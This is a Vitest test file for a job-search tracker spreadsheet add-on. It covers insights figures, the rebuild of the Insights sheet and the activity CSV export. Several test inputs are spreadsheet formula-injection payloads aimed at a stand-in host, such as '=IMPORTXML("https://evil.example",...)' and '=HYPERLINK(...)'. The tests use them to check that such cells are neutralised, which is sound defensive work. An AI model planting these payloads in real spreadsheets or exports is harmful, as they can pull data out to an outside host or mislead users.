/** Look back in the built bundle: insights of the seeded search, the Insights sheet rebuild, the activity CSV. */
import { toSkillRows } from '../../shared/learning/skills-rows.js';
import { listSkillsToBuild } from '../../shared/learning/skills-to-build.js';
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { loadBundle, type LoadedAddon } from '../support/load-bundle.js';
import { writeAsPerson, type FakeSpreadsheet } from '../fakes/apps-script/index.js';
import { computeInsights } from '../../shared/insights/compute-insights.js';
import { toInsightsRows, toInsightsSheetValues } from '../../shared/insights/insights-rows.js';
import { INSIGHTS } from '../../shared/schema/insights-schema.js';
import { APPLICATIONS, INTERVIEWS } from '../../shared/schema/tracker-schema.js';
import { SEED_NOW } from '../shared/insights/seed.js';
import { fillRows, SEED_INSTANT, seedSearch } from './learning-seed.js';

function seeded(applications = 200): LoadedAddon & { data: ReturnType<typeof seedSearch> } {
  const loaded = loadBundle({ now: SEED_INSTANT });
  loaded.addon.setUpTracker();
  const data = seedSearch(loaded.spreadsheet, applications);
  loaded.log.reset();
  return { ...loaded, data };
}

const dumpOthers = (spreadsheet: FakeSpreadsheet) =>
  JSON.stringify(spreadsheet.sheets.filter((sheet) => sheet.name !== INSIGHTS.name).map((sheet) => ({ name: sheet.name, ...sheet.dump() })));

describe('loadInsights', () => {
  it('gives the exact figures of the seeded search (200 applications, 400 rounds) from 3 getValues', () => {
    const loaded = seeded();
    const view = loaded.addon.loadInsights();
    expect(view.now).toBe(SEED_NOW);
    expect(view.insights).toEqual(computeInsights({ ...loaded.data, now: SEED_NOW }));
    expect(view.insights.funnel.map((step) => [step.stage, step.reached, step.conversion])).toEqual([
      ['Applied', 200, null],
      ['Screening', 100, 0.5],
      ['Interviewing', 80, 0.8],
      ['Offer', 20, 0.25],
    ]);
    expect(view.insights.totals).toEqual({ applications: 200, applied: 200, interviews: 400, debriefed: 390 });
    expect([view.insights.lastInterviewOn, view.insights.daysSinceLastInterview, view.insights.monthsInARow]).toEqual(['2026-03-14', 6, 15]);
    expect(view.marketCheck).toBeNull();
    // insights.spreadsheet_reads: one getValues per sheet; the only other read is the sheet's time zone.
    expect(loaded.log.count('Range.getValues')).toBe(3);
    expect(loaded.log.reads()).toBe(4);
    expect(loaded.log.writes()).toBe(0);
  });

  it('names a row with an unreadable date in Cells to check by its sheet row number, never by its hidden id', () => {
    const loaded = loadBundle({ now: new Date('2027-06-01T10:00:00Z') });
    loaded.addon.setUpTracker();
    fillRows(loaded.spreadsheet, INTERVIEWS, [
      { eventId: 'ev-1', start: '2026-03-14 10:00', end: '2026-03-14 11:00', title: 'Onsite', company: 'Acme', role: 'SRE', calendarStatus: 'confirmed' },
      { eventId: 'ev-hidden', start: 'next week', title: 'Panel', company: 'Globex', role: 'SRE', calendarStatus: 'confirmed' },
    ]);
    expect(loaded.addon.loadInsights().insights.problems).toEqual([
      '"next week" in the Start cell of Interviews row 3 (Globex — SRE) is not a date; write it as YYYY-MM-DD or YYYY-MM-DD HH:mm.',
    ]);
  });

  it('nudges for a market check when the last interview is more than a year old', () => {
    const loaded = loadBundle({ now: new Date('2027-06-01T10:00:00Z') });
    loaded.addon.setUpTracker();
    fillRows(loaded.spreadsheet, INTERVIEWS, [
      { eventId: 'ev-1', start: '2026-03-14 10:00', end: '2026-03-14 11:00', title: 'Onsite', company: 'Acme', role: 'SRE', calendarStatus: 'confirmed' },
    ]);
    expect(loaded.addon.loadInsights().marketCheck).toEqual({ lastInterviewOn: '2026-03-14', days: 444 });
  });

  it.each([
    [{ marketCheck: false }, null],
    [{ marketCheckAfterDays: 500 }, null],
    [{ marketCheckAfterDays: 400 }, { lastInterviewOn: '2026-03-14', days: 444 }],
  ])('follows the due settings %j for the market check', (due, expected) => {
    const loaded = loadBundle({ now: new Date('2027-06-01T10:00:00Z') });
    loaded.addon.setUpTracker();
    loaded.documentProperties.setProperty('nextround.settings', JSON.stringify({ version: 1, due }));
    fillRows(loaded.spreadsheet, INTERVIEWS, [
      { eventId: 'ev-1', start: '2026-03-14 10:00', end: '2026-03-14 11:00', title: 'Onsite', company: 'Acme', role: 'SRE', calendarStatus: 'confirmed' },
    ]);
    expect(loaded.addon.loadInsights().marketCheck).toEqual(expected);
  });
});

describe('rebuildInsightsSheet', () => {
  it('finds the Stage history and Insights sheets that set-up creates, with their headers', () => {
    const loaded = loadBundle({ now: SEED_INSTANT });
    expect(loaded.addon.setUpTracker().created).toEqual(expect.arrayContaining(['Stage history', 'Insights']));
    const headers = (name: string) => loaded.spreadsheet.getSheetByName(name)!.peekValues()[0];
    expect(headers('Stage history')).toEqual(['Change ID', 'Application ID', 'Company', 'Role', 'From stage', 'To stage', 'Changed at']);
    expect(headers('Insights')).toEqual(['Key', 'Section', 'Item', 'Value', 'Out of', 'Rate', 'Median days', 'Examples']);
    // An empty tracker: 4 summary rows (no "days since" without an interview) and the 4 funnel steps.
    expect(loaded.addon.rebuildInsightsSheet()).toEqual({ sheet: 'Insights', rows: 8 });
  });

  it('writes the Insights sheet in one block and leaves every other sheet byte for byte the same', () => {
    const loaded = seeded();
    const others = dumpOthers(loaded.spreadsheet);
    // 58: the 50 rows of before, one résumé-version row (none recorded in the seed), 7 skills to build.
    expect(loaded.addon.rebuildInsightsSheet()).toEqual({ sheet: 'Insights', rows: 58 });
    expect(dumpOthers(loaded.spreadsheet)).toBe(others);
    const expected = toInsightsSheetValues([
      ...toInsightsRows(computeInsights({ ...loaded.data, now: SEED_NOW })),
      ...toSkillRows(listSkillsToBuild(loaded.data.interviews, SEED_NOW)),
    ]);
    expect(loaded.spreadsheet.getSheetByName('Insights')!.peekValues()).toEqual(expected);
    expect(loaded.log.snapshot()).toMatchObject({ 'Range.getValues': 3, 'Range.setValues': 1, 'Range.setNumberFormats': 1, 'Lock.waitLock': 1 });
  });

  it("blanks rows left from a longer build, keeps the person's own columns, and writes notes starting with = as text", () => {
    const loaded = seeded();
    loaded.addon.rebuildInsightsSheet();
    const sheet = loaded.spreadsheet.getSheetByName('Insights')!;
    writeAsPerson(sheet, 2, 10, 'my own note');
    // Fewer interviews: fewer months and themes than the first build.
    const interviews = loaded.spreadsheet.getSheetByName('Interviews')!;
    for (let row = 3; row <= 401; row++) writeAsPerson(interviews, row, INTERVIEWS.columns.findIndex((c) => c.key === 'calendarStatus') + 1, 'cancelled');
    writeAsPerson(interviews, 2, INTERVIEWS.columns.findIndex((c) => c.key === 'toImprove') + 1, '=IMPORTXML("https://evil.example","//a")');
    const { rows } = loaded.addon.rebuildInsightsSheet();
    expect(rows).toBeLessThan(50);
    const values = sheet.peekValues();
    expect(values).toHaveLength(rows + 1);
    const leftOver = sheet
      .dump()
      .cells.slice(rows + 1, 51)
      .flatMap((line) => line.slice(0, 8));
    expect(leftOver.filter((cell) => cell.value !== '' || cell.formula !== '')).toEqual([]);
    expect(values[1]![9]).toBe('my own note');
    const theme = values.find((line) => line[1] === 'To improve')!;
    expect(theme[7]).toBe('=IMPORTXML("https://evil.example","//a")');
    expect(
      sheet
        .dump()
        .cells.flat()
        .filter((cell) => cell.formula !== ''),
    ).toEqual([]);
  });
});

describe('exportActivityCsv', () => {
  it('returns a CSV that a spreadsheet parser reads back row by row, formula-like cells neutralised', async () => {
    const loaded = loadBundle({ now: SEED_INSTANT });
    loaded.addon.setUpTracker();
    fillRows(loaded.spreadsheet, APPLICATIONS, [
      { id: 'app-1', company: '=HYPERLINK("https://evil.example")', role: 'SRE', stage: 'Applied', source: 'LinkedIn', appliedOn: '2026-03-01' },
      { id: 'app-2', company: 'Acme, Inc.', role: '@SUM(A1)', stage: 'Wishlist' },
    ]);
    fillRows(loaded.spreadsheet, INTERVIEWS, [
      {
        eventId: 'ev-1',
        start: '2026-03-05 10:00',
        end: '2026-03-05 11:00',
        title: 'x',
        company: '+Globex',
        role: '-1',
        round: 'Technical',
        interviewers: 'Ana Pérez <ana@example.com>',
        calendarStatus: 'confirmed',
      },
    ]);
    loaded.log.reset();
    const file = loaded.addon.exportActivityCsv();
    expect([file.filename, file.entries, file.problems]).toEqual(['nextround-activity-2026-03-20.csv', 2, []]);
    expect(loaded.log.count('Range.getValues')).toBe(3);
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([file.csv]), { parserOptions: { trim: false } });
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((value) => (value instanceof Date ? value.toISOString() : value))));
    expect(rows[0]).toEqual(['Date', 'Type', 'Company', 'Role', 'Detail']);
    expect(rows.slice(1).map((row) => row.slice(1))).toEqual([
      ['Application', '\'=HYPERLINK("https://evil.example")', 'SRE', 'via LinkedIn'],
      ['Interview', "'+Globex", "'-1", 'Technical with Ana Pérez'],
    ]);
    expect(rows).toHaveLength(3);
  });
});
